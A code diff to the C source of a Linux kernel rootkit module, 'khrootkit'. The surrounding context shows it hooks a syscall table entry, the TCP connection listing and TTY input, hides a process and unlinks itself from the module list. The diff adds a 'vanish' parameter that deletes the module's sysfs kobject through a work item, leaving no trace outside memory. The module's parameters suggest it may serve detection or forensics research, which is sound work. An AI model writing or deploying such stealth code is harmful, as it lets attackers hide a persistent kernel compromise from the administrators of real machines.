@@ -25,6 +25,11 @@
  *  6. hides itself: unlinks itself from the module list (/proc/modules),
  *     while /sys/module/khrootkit and its parameters stay.
  *
+ * Later, writing the write-only parameter vanish takes its kobject out
+ * of sysfs too (kobject_del, from a work item: not inside the write of
+ * one of its own attributes), so that only its memory is left to find
+ * it by: /sys/module/khrootkit and its parameters are gone then.
+ *
  * Each step that fails undoes the earlier ones and fails the init; the
  * hiding comes last, so a failure never leaves something hidden. There is
  * no exit function: the module cannot be unloaded (nor found by
@@ -74,6 +79,7 @@
 #include <linux/sysfs.h>
 #include <linux/tty.h>
 #include <linux/vmalloc.h>
+#include <linux/workqueue.h>
 #include <net/net_namespace.h>
 #include <asm/unistd.h>
 
@@ -157,6 +163,35 @@ MODULE_PARM_DESC(seq_show_addr, "out: the function now in tcp4_seq_ops.show");
 static unsigned long tty_hook_addr;
 module_param_cb(tty_hook_addr, &kh_out_ops, &tty_hook_addr, 0444);
 MODULE_PARM_DESC(tty_hook_addr, "out: the function now in n_tty_ops.receive_buf");
+
+/* --- vanish: out of sysfs, later ----------------------------------------- */
+
+static bool kh_loaded;
+static atomic_t kh_vanishing = ATOMIC_INIT(0);
+
+static void kh_vanish_fn(struct work_struct *work)
+{
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	pr_info("removed its kobject: /sys/module/khrootkit is gone\n");
+}
+
+static DECLARE_WORK(kh_vanish_work, kh_vanish_fn);
+
+static int param_set_vanish(const char *val, const struct kernel_param *kp)
+{
+	/* only once the init is done, and once */
+	if (!READ_ONCE(kh_loaded) || atomic_xchg(&kh_vanishing, 1))
+		return -EBUSY;
+	schedule_work(&kh_vanish_work);
+	return 0;
+}
+
+static const struct kernel_param_ops kh_vanish_ops = {
+	.set = param_set_vanish,
+};
+
+module_param_cb(vanish, &kh_vanish_ops, NULL, 0200);
+MODULE_PARM_DESC(vanish, "write anything: remove the module's kobject from sysfs");
 
 /* --- 1. sys_call_table entry ------------------------------------------- */
 
@@ -480,6 +515,7 @@ static int __init khrootkit_init(void)
 	}
 	synchronize_rcu();
 	stop_machine(kh_self_point, task, NULL);
+	WRITE_ONCE(kh_loaded, true);
 	/* the task reference is kept: the hidden task is never freed */
 	pr_info("hid pid %d (%s) from the task list and the module from the module list\n",
 		hide_pid, task->comm);
